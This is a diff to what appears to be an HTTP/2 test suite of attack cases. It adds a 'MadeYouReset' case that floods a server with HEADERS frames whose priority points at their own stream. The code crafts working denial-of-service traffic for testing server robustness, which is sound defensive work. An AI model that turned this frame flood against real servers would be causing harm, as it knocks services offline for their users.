@@ -16,6 +16,7 @@ if TYPE_CHECKING:
     from tests.attacks.attacker import Line
 
 _CROWD = 100
+_PRIORITY_FLAG = 0x20
 _LARGE_CHUNKS = pb.RequestParams(chunk_size=10_000).SerializeToString()
 
 
@@ -158,3 +159,14 @@ _made(
     "trailers that go on", "trailers without END_STREAM",
     lambda i: frame(HEADERS, b"\x82", flags=END_HEADERS, stream_id=i), (b"key", b"value"),
 )  # fmt: skip
+
+
+@attack("MadeYouReset: HEADERS on themselves", "calls whose priority depends on their own stream")
+def headers_on_themselves(attacker: Attacker) -> None:
+    blocks = (head[9:] for _, head in heads())
+    flags = END_HEADERS | _PRIORITY_FLAG
+    parts = (
+        frame(HEADERS, i.to_bytes(4, "big") + b"\x10" + block, flags=flags, stream_id=i)
+        for i, block in zip(itertools.count(1, 2), blocks, strict=False)
+    )
+    attacker.flood(attacker.connect(), parts)
